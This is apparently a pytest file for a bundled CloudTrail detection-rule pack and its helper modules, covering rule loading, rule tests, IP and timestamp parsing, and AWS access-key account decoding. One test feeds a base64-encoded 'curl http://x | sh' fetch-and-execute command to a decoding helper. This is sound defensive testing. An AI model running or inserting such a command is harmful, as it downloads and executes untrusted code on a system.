"""Every YAML test of the bundled CloudTrail pack, one pytest case each, so CI covers the pack."""
from __future__ import annotations

import base64
import datetime

import pytest

from transforms.rules_engine import BUNDLED_RULES_DIR, load_rule_bundle
from transforms.rules_engine.testing import RuleTester

TESTER = RuleTester(load_rule_bundle([BUNDLED_RULES_DIR]))
CASES = list(TESTER.cases())


def test_every_bundled_rule_loads():
    assert TESTER.load_failures == []


@pytest.mark.parametrize(
    ("rule", "spec"), CASES, ids=[f"{rule.rule_id}::{spec.get('Name')}" for rule, spec in CASES]
)
def test_bundled_rule_test_passes(rule, spec):
    result = TESTER.run(rule, spec)
    assert result.passed, (result.expected, result.actual, result.errors, result.problems, result.match)


def test_every_bundled_rule_has_a_true_and_a_false_test():
    lacking = [
        rule.rule_id
        for rule in TESTER.rules
        if {True, False} - {test["ExpectedResult"] for test in rule.tests}
    ]
    assert lacking == []


# -- the bundled helper modules rules import ----------------------------------------------

def test_base_helpers_match_patterns_networks_and_timestamps():
    import panther_base_helpers  # importable once TESTER has built the rules

    assert panther_base_helpers.pattern_match("arn:aws:iam::123456789012:role/admin-ops", "*:role/admin*")
    assert not panther_base_helpers.pattern_match_list("ops", ["adm*", "root"])
    assert panther_base_helpers.is_ip_in_network("10.1.2.3", ["192.168.0.0/16", "10.0.0.0/8"])
    assert not panther_base_helpers.is_ip_in_network("ec2.amazonaws.com", ["10.0.0.0/8"])
    assert panther_base_helpers.resolve_timestamp_string("2025-03-04T10:12:41Z") == datetime.datetime(2025, 3, 4, 10, 12, 41)
    assert panther_base_helpers.resolve_timestamp_string("2025-03-04T11:12:41.5+01:00") == datetime.datetime(
        2025, 3, 4, 10, 12, 41, 500000
    )
    assert panther_base_helpers.resolve_timestamp_string("yesterday") is None
    tags = [{"key": "env", "value": "prod"}, {"key": "team", "value": "payments"}]
    assert panther_base_helpers.key_value_list_to_dict(tags, "key", "value") == {"env": "prod", "team": "payments"}
    assert panther_base_helpers.is_base64(base64.b64encode(b"curl http://x | sh").decode()) == "curl http://x | sh"
    assert panther_base_helpers.is_base64("not base64 at all") == ""


def test_aws_helpers_read_cloudtrail_outcomes_and_key_accounts():
    import panther_aws_helpers

    failed = {"eventName": "StopLogging", "errorCode": "AccessDenied"}
    assert not panther_aws_helpers.aws_cloudtrail_success(failed)
    assert panther_aws_helpers.aws_cloudtrail_success({"eventName": "StopLogging"})
    assert panther_aws_helpers.aws_rule_context(failed)["awsRegion"] == "<MISSING_AWS_REGION>"
    assert panther_aws_helpers.aws_event_tense("DeleteTrail") == "deleted"
    assert (
        panther_aws_helpers.aws_strip_role_session_id("arn:aws:sts::123456789012:assumed-role/ops/alice")
        == "arn:aws:sts::123456789012:assumed-role/ops"
    )
    # Access key ids carry the account id in bits 1-40 of their base32 body, shifted by 7.
    body = ((123456789012 << 7) | 0x5A).to_bytes(6, "big") + b"\x13\x37\x42\x24"
    key = "ASIA" + base64.b32encode(body).decode().rstrip("=")
    assert panther_aws_helpers.aws_key_account_id(key) == "123456789012"
    assert panther_aws_helpers.aws_key_account_id("AKIA!!") == ""
